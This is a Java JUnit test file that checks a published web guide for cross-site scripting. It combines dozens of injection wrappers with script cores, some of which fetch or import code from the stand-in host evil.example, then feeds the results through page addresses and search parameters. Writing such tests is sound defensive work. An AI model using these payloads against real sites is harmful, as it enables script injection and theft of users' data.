package whiteboard.browse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// Whatever a link puts into an address stays text. What a reader puts into the search has a test of its own.
class HostilityTest {

    private static final List<String> CORES = List.of("alert(1)", "self.ran=1", "fetch('//evil.example')", "import('//evil.example/x.js')");

    private static final List<String> SHELLS = List.of("<script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>",
            "\"><script>%s</script>", "'><img src=x onerror=%s>", "javascript:%s", "<a href=javascript:%s>k-means</a>",
            "k-means <b onmouseover=%s>", "</title><script>%s</script>", "<iframe srcdoc='<script>%s</script>'>", "${%s}", "{{%s}}",
            "<math><mi xlink:href=javascript:%s>", "\u202e<script>%s</script>", "%%3Cscript%%3E%s%%3C/script%%3E",
            "&lt;script&gt;%s&lt;/script&gt;", "<details open ontoggle=%s>", "\\u003cscript\\u003e%s", "<style>@import '//evil.example'</style>%s",
            "<form action=javascript:%s><input type=submit autofocus>", "data:text/html,<script>%s</script>", "__proto__ %s", "constructor %s",
            "<template><script>%s</script></template>", "<object data=javascript:%s>", "<base href=//evil.example>%s",
            "<meta http-equiv=refresh content='0;url=javascript:%s'>", "<!--><script>%s</script>", "]]><script>%s</script>",
            "<x contenteditable onfocus=%s autofocus>", "`${%s}`", "k-means\u0000<script>%s</script>", "\ud800%s", "* { x: expression(%s) }",
            "<link rel=stylesheet href=//evil.example>%s", "<video><source onerror=%s>", "<body onload=%s>", "<marquee onstart=%s>",
            "<input onfocus=%s autofocus>", "<select onfocus=%s autofocus>", "<textarea onfocus=%s autofocus>", "<keygen onfocus=%s>",
            "<audio src=x onerror=%s>", "<embed src=javascript:%s>", "(?<!%s)[", "%s".repeat(40), "<script\u000c>%s</script>", "<<script>%s//<</script>",
            "<svg><script>%s</script>", "<svg><animate onbegin=%s attributeName=x>", "gradient <mark>%s</mark>");

    private static PublishedGuide guide;

    @BeforeAll
    static void open() {
        guide = PublishedGuide.open();
    }

    private static List<String> texts() {
        List<String> texts = new ArrayList<>();
        for (String shell : SHELLS) for (String core : CORES) texts.add(shell.replace("%s", core).replace("%%", "%"));
        return texts;
    }

    /// A visit that notices a script of the text's: by what it sets, by a dialog, or by an element that could run one.
    private static Visit watched() {
        Visit visit = guide.visit(1280);
        visit.context.addInitScript("self.ran = 0; self.alert = () => { self.ran++ }");
        return visit;
    }

    private static void unharmed(Visit visit, String text) {
        assertEquals(0, ((Number) visit.ask("self.ran")).intValue(), text);
        assertEquals(0, ((Number) visit.ask("""
                [...document.querySelectorAll('*')].filter(it => it.matches('iframe, object, embed, base, template, style, marquee')
                  || [...it.attributes].some(a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value))).length""")).intValue(), text);
    }

    @Test
    void twoHundredFragmentsRunNoScript() {
        assertTrue(texts().size() >= 200);
        try (Visit visit = watched().to(PublishedGuide.TOPIC)) {
            for (String text : texts()) {
                visit.page.evaluate("text => { location.hash = text }", text);
                unharmed(visit, text);
            }
            visit.page.evaluate("location.hash = '#%E0%A4%A'");
            visit.page.waitForTimeout(50);
        }
    }

    @Test
    void addressesOfEveryPageThatReadsThemRunNoScript() {
        try (Visit visit = watched()) {
            for (int i = 0; i < SHELLS.size(); i += 2) {
                String text = texts().get(i * CORES.size() + i % CORES.size());
                String query = URLEncoder.encode(text.replace('\ud800', '?'), StandardCharsets.UTF_8);
                visit.to("syllabus/?role=" + query + "&level=" + query + "&kind=" + query + "&progress=" + query);
                unharmed(visit, text);
                visit.to("plan/?role=" + query + "&days=" + query);
                unharmed(visit, text);
                if (i % 10 > 0) continue;
                visit.to("?q=" + query);
                visit.page.waitForSelector(".finder[open]");
                visit.until("document.querySelector('.finder-list').ariaBusy === 'false'");
                unharmed(visit, text);
            }
        }
    }
}
